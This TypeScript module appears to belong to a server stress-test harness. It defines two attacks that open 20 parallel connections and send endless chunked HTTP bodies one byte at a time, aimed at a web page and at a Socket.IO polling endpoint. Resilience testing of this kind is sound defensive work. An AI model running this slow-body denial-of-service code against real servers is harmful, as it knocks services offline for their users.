// Sends bodies without end in pieces of one byte, to the page and to a polling session: each piece is a call of the parser.
import type { Attack, Target } from "../support/attack.ts";
import { keepOn, openTcp, pour, repeated } from "../support/tcp.ts";
import { openPolling } from "./upgradeProbes.ts";

const PIECES = repeated(Buffer.from("1\r\na\r\n"));
const LANES = 20;

export const pageBodies: Attack = {
  name: "page-bodies",
  run: (target) => keepOn(target.signal, LANES, () => pourBody(target, "/")),
};

export const pollingBodies: Attack = {
  name: "polling-bodies",
  run: (target) =>
    keepOn(target.signal, LANES, async () => {
      const sid = await openPolling(target);
      await pourBody(target, `/socket.io/?EIO=4&transport=polling&sid=${sid}`);
    }),
};

async function pourBody({ signal, ...place }: Target, path: string): Promise<void> {
  const socket = openTcp(place).resume();
  socket.write(`POST ${path} HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n`);
  await pour(socket, PIECES, signal);
}
